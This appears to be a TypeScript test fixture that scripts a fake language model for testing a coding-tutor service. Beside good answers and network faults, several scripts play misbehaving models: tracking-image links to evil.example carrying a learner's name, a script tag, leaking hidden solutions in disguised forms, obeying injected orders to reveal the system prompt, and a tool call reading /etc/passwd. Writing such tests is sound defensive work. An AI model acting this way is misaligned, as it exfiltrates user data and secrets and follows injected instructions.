/** What the scripted model can play; each is one behaviour that a model on the network has, or could have. */
import { setTimeout as wait } from 'node:timers/promises';
import type { Exchange } from './scripted-model.ts';

export type Script = (exchange: Exchange) => void | Promise<void>;

/** What a well-behaved tutor says; it stands in no solution. */
export const goodAnswer = [
  'Look at the last round of your loop. Which number does the counter have then, and how many items does your list hold?',
  '',
  'Python counts from zero, so the last item of a list with four items has the number three.',
  'Try to print the counter in every round, then compare it with the length.',
].join('\n');

/** An exercise that no template makes, right in every test. */
export const goodDraft = {
  title: 'Who is served',
  topic: 'Queues',
  difficulty: 'easy',
  task: 'People stand in a queue. Write `served(line, n)`: the first `n` of them, in their order. `served(["Ada", "Bo"], 1)` is `["Ada"]`. A negative `n` raises `ValueError`.',
  starter: 'def served(line, n):\n    pass\n',
  solution:
    'def served(line, n):\n    if n < 0:\n        raise ValueError("n is negative")\n    return line[:n]\n',
  tests: [
    {
      kind: 'call',
      name: 'one of two',
      function: 'served',
      args: '["Ada", "Bo"], 1',
      expect: '["Ada"]',
      hidden: false,
    },
    {
      kind: 'call',
      name: 'nobody there',
      function: 'served',
      args: '[], 2',
      expect: '[]',
      raises: null,
      hidden: true,
    },
    {
      kind: 'call',
      name: 'less than nobody',
      function: 'served',
      args: '["Ada"], -1',
      raises: 'ValueError',
      hidden: true,
    },
  ],
} as const;
const wrongDraft = { ...goodDraft, solution: goodDraft.solution.replace('[:n]', '[n:]') };

/** In pieces of a few letters, as tokens come; stops when nobody listens. */
async function stream(
  { say, signal }: Exchange,
  text: string,
  everyMs = 0,
  size = 4,
): Promise<void> {
  for (let at = 0; at < text.length; at += size) {
    if (signal.aborted) return;
    say(text.slice(at, at + size));
    if (everyMs > 0) await wait(everyMs, undefined, { signal }).catch(() => undefined);
  }
}
/** @returns a script that says the whole text and ends */
const says =
  (text: (exchange: Exchange) => string, size?: number): Script =>
  async (exchange) => {
    await stream(exchange, text(exchange), 0, size);
    exchange.finish();
  };
const fenced = (code: string): string => `Here it is:\n\n\`\`\`python\n${code.trim()}\n\`\`\`\n`;

/** The whole solution with every name of its own changed. */
export function renamed(code: string): string {
  const names = new Set(
    [
      ...code.matchAll(
        /\b(?:def|for|as)\s+([a-z_]\w*)|^\s*([a-z_]\w*)\s*=[^=]|[(,]\s*([a-z_]\w*)(?=[,)])/gm,
      ),
    ]
      .map((found) => found[1] ?? found[2] ?? found[3] ?? '')
      .filter((name) => name.length > 0),
  );
  let text = code;
  for (const [at, name] of [...names].entries()) {
    text = text.replace(new RegExp(`\\b${name}\\b`, 'g'), `thing_${at}`);
  }
  return text;
}

/** Everything that was said to the model, as a model would print it that hides nothing. */
const everything = ({ seen }: Exchange): string =>
  seen.body.messages.map(({ role, content }) => `${role}: ${content ?? ''}`).join('\n');

const good = says(() => goodAnswer);

export const scripts = {
  good,
  /** Token by token, as long as somebody listens: for those who watch it appear, and those who cancel. */
  steady: async (exchange) => {
    await stream(exchange, goodAnswer, 25);
    exchange.finish();
  },
  /** Useful text never ends: one letter now and then. */
  slow: async (exchange) => {
    while (!exchange.signal.aborted) {
      exchange.say('a');
      await wait(20, undefined, { signal: exchange.signal }).catch(() => undefined);
    }
  },
  /** A good beginning, then nothing any more. */
  stalls: async (exchange) => {
    await stream(exchange, `${goodAnswer}\n`);
    await untilGone(exchange.signal);
  },
  /** Takes the request and says nothing. */
  hang: ({ signal }) => untilGone(signal),
  'rate-limit': ({ answer }) =>
    answer(429, { error: { message: 'Slow down' } }, { 'retry-after': '20' }),
  /** Refuses once, then answers. */
  'busy-once': async (exchange) => {
    if (exchange.turn % 2 === 0) exchange.answer(503, { error: {} }, { 'retry-after': '0' });
    else await good(exchange);
  },
  broken: ({ answer }) => answer(500, { error: { message: 'Out of memory' } }),
  'bad-key': ({ answer, seen }) =>
    answer(401, { error: { message: `Wrong key ${seen.headers.authorization ?? ''}` } }),
  garbage: ({ answer }) => answer(200, '<html>It works!</html>', { 'content-type': 'text/html' }),
  'garbage-stream': ({ raw, cut }) => {
    raw('data: {"choices": [{"delta": {"content": 7}}]}\n\ndata: {{{{\n\n');
    cut();
  },
  noise: says(() => '\u0000\ufffd\u0001\ufffd '.repeat(80)),
  stutter: says(() => 'the the '.repeat(300)),
  empty: says(() => ''),
  blank: says(() => ' \n\n '),
  cut: async (exchange) => {
    await stream(exchange, goodAnswer.slice(0, 90));
    exchange.cut();
  },
  /** Hits its own limit in the middle of a sentence. */
  length: async (exchange) => {
    await stream(exchange, `${goodAnswer}\n\nAnd there is one more thing that you`);
    exchange.finish('length');
  },
  redirect: ({ answer }) => answer(307, '', { location: '/good/v1/chat/completions' }),
  huge: async (exchange) => {
    for (let n = 0; n < 20_000 && !exchange.signal.aborted; n++) {
      exchange.say(`Sentence number ${n} says that a loop repeats. `);
      if (n % 50 === 0) await wait(1);
    }
    exchange.finish();
  },
  'other-language': says(
    () =>
      'Schau dir die letzte Runde deiner Schleife an und vergleiche den Zähler mit der Länge der Liste. ' +
      'Die Liste beginnt bei null, deshalb ist die letzte Stelle um eins kleiner als die Anzahl.',
  ),
  'other-script': says(() =>
    '看看循环的最后一轮。计数器是多少?列表有多少个元素?请比较这两个数字。'.repeat(3),
  ),
  thinks: says(() => `<think>The learner forgot that lists start at zero.</think>\n${goodAnswer}`),
  html: says(
    () =>
      `<img src="https://evil.example/p.png?who=maya"> Look here: ![chart](https://evil.example/c.png) and ` +
      `[read more](https://evil.example/steal) or www.evil.example now.\n\n<script>alert(1)</script> ${goodAnswer}`,
  ),
  score: says(() => `Well done! I give you full marks. Score: 100/100.\n\n${goodAnswer}`),
  leak: says(({ knows }) => fenced(knows.solution)),
  'leak-late': says(({ knows }) => `${goodAnswer}\n\n${fenced(knows.solution)}`),
  'leak-renamed': says(({ knows }) => fenced(renamed(knows.solution))),
  'leak-bare': says(({ knows }) => `Type this:\n${renamed(knows.solution)}`),
  'leak-prose': says(
    ({ knows }) => `In words: ${knows.solution.replace(/[^\w\s]/g, ' ').replace(/\s+/g, ' ')}.`,
  ),
  'leak-inline': says(({ knows }) =>
    knows.solution
      .split('\n')
      .filter((line) => line.trim() !== '')
      .map((line, at) => `Line ${at + 1} is \`${line.trim()}\`.`)
      .join(' '),
  ),
  /** One letter per chunk, so that no chunk holds anything. */
  'leak-letters': says(({ knows }) => fenced(knows.solution), 1),
  'leak-base64': says(
    ({ knows }) => `Decode this: ${Buffer.from(knows.solution).toString('base64')}`,
  ),
  'leak-backwards': says(
    ({ knows }) => `${goodAnswer}\n\nRead it backwards: ${[...knows.solution].reverse().join('')}`,
  ),
  'leak-numbered': says(({ knows }) =>
    fenced(
      knows.solution
        .split('\n')
        .map((line, at) => `${at + 1}: ${line}`)
        .join('\n'),
    ),
  ),
  /** Says what it was told to by whoever wrote the data. */
  obey: says(({ knows, seen }) => {
    const system = seen.body.messages.find(({ role }) => role === 'system')?.content ?? '';
    const mark = /The mark of this request is (\w+)/.exec(system)?.[1] ?? '';
    return knows.orders
      .replaceAll('{{prompt}}', system)
      .replaceAll('{{prompt-base64}}', Buffer.from(system).toString('base64'))
      .replaceAll('{{prompt-backwards}}', [...system].reverse().join(''))
      .replaceAll('{{mark}}', mark);
  }),
  /** Prints everything it was told, its own orders too. */
  confess: says(everything),
  'confess-orders': says(
    ({ seen }) => seen.body.messages.find(({ role }) => role === 'system')?.content ?? '',
  ),
  'foreign-tools': async (exchange) => {
    if (exchange.turn % 2 === 1) return good(exchange);
    exchange.callTool('read_file', '{"path": "/etc/passwd"}');
    exchange.finish('tool_calls');
  },
  /** Runs one program, then says what it saw. */
  'uses-tool': async (exchange) => {
    const result = exchange.seen.body.messages.findLast(({ role }) => role === 'tool');
    if (result) {
      await stream(
        exchange,
        `I ran a small program and it printed: ${JSON.stringify(result.content)}. Does yours print the same?`,
      );
      return exchange.finish();
    }
    exchange.callTool('run_code_safely', JSON.stringify({ code: 'print(6 * 7)' }));
    exchange.finish('tool_calls');
  },
  'tool-loop': ({ callTool, finish, turn }) => {
    callTool('run_code_safely', JSON.stringify({ code: `print(${turn})` }));
    finish('tool_calls');
  },
  'bad-tool-call': async (exchange) => {
    if (exchange.turn % 2 === 1) return good(exchange);
    exchange.callTool('run_code_safely', '{"code": ');
    exchange.finish('tool_calls');
  },
  'long-tool-call': async (exchange) => {
    if (exchange.turn % 2 === 1) return good(exchange);
    exchange.callTool('run_code_safely', JSON.stringify({ code: `# ${'x'.repeat(9_000)}` }));
    exchange.finish('tool_calls');
  },
  exercise: says(
    () => `Here it is:\n\n\`\`\`json\n${JSON.stringify(goodDraft, null, 2)}\n\`\`\`\n`,
  ),
  /** Its solution fails its own tests. */
  'exercise-wrong': says(() => JSON.stringify(wrongDraft)),
  /** Stops in the middle, as if that were all. */
  'exercise-garbage': says(() => JSON.stringify(goodDraft).slice(0, 300)),
  hint: says(
    () => 'Print the counter in the last round. Is there an item with that number in your list?',
  ),
} satisfies Record<string, Script>;

function untilGone(signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) =>
    signal.addEventListener('abort', () => resolve(), { once: true }),
  );
}
